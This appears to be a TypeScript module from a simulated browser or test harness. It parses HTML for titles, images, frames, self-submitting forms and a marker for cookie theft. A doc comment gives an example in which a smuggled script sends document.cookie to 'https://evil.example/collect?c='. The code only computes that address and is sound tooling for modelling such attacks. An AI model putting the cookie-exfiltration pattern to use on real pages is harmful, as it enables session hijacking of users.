/** Something that a page fetches by itself. */
export interface PageResource {
	readonly kind: 'image' | 'frame';
	readonly url: string;
}

/** A form that a page's script would send as soon as the page is there. */
export interface SelfSentForm {
	readonly method: 'GET' | 'POST';
	readonly url: string;
	readonly data: Readonly<Record<string, string>>;
}

/** At most so many images and frames of a page are fetched. */
const MOST = 8;

/** The text between `<title>` and `</title>`, or an empty text. */
export function pageTitle(html: string): string {
	return /<title[^>]*>([^<]*)<\/title>/i.exec(html)?.[1]?.trim() ?? '';
}

/** The images and frames of a page, in their order; addresses stand on `base`. */
export function pageResources(html: string, base: string): PageResource[] {
	const found: PageResource[] = [];
	for (const [, tag = '', attributes = ''] of visible(html).matchAll(/<(img|iframe)\b([^>]*)>/gi)) {
		const url = resolved(attribute(attributes, 'src'), base);
		if (url) found.push({ kind: tag.toLowerCase() === 'img' ? 'image' : 'frame', url });
	}
	return found.slice(0, MOST);
}

/** The named behaviour `data-crumb-send`: a form that a script sends by itself. `null`: the page has none. */
export function selfSentForm(html: string, base: string): SelfSentForm | null {
	for (const [, attributes = '', inside = ''] of visible(html).matchAll(
		/<form\b([^>]*)>([\s\S]*?)<\/form>/gi
	)) {
		if (!/\bdata-crumb-send\b/.test(attributes)) continue;
		const url = resolved(attribute(attributes, 'action') ?? base, base);
		if (!url) continue;
		const fields = [...inside.matchAll(/<input\b([^>]*)>/gi)].map(
			([, input = '']) => [attribute(input, 'name') ?? '', attribute(input, 'value') ?? ''] as const
		);
		const method = attribute(attributes, 'method')?.toLowerCase() === 'post' ? 'POST' : 'GET';
		const data: Record<string, string> = Object.fromEntries(fields.filter(([name]) => name !== ''));
		return { method, url, data };
	}
	return null;
}

/**
 * The named behaviour `data-crumb-leak="https://evil.example/collect?c="`: a script that was smuggled into the page
 * reads `document.cookie` and asks for that address with what it read at the end. `null`: the page has none.
 */
export function leakAddress(html: string, documentCookie: string, base: string): string | null {
	const to = /\sdata-crumb-leak\s*=\s*(?:"([^"]*)"|'([^']*)')/i.exec(visible(html));
	const address = to ? unescaped(to[1] ?? to[2] ?? '') : null;
	return address === null ? null : resolved(address + encodeURIComponent(documentCookie), base);
}

/** What a browser takes for markup: comments and scripts are not. */
function visible(html: string): string {
	return html.replace(/<!--[\s\S]*?-->|<(script|style|template)\b[\s\S]*?<\/\1\s*>/gi, '');
}

function attribute(attributes: string, name: string): string | null {
	const found = new RegExp(`(?:^|\\s)${name}\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s"'>]+))`, 'i').exec(
		attributes
	);
	return found ? unescaped(found[1] ?? found[2] ?? found[3] ?? '') : null;
}

function unescaped(text: string): string {
	return text
		.replaceAll('&quot;', '"')
		.replaceAll('&#x27;', "'")
		.replaceAll('&lt;', '<')
		.replaceAll('&gt;', '>')
		.replaceAll('&amp;', '&');
}

function resolved(address: string | null, base: string): string | null {
	if (address === null || !URL.canParse(address, base)) return null;
	const url = new URL(address, base);
	return /^https?:$/.test(url.protocol) ? url.href : null;
}
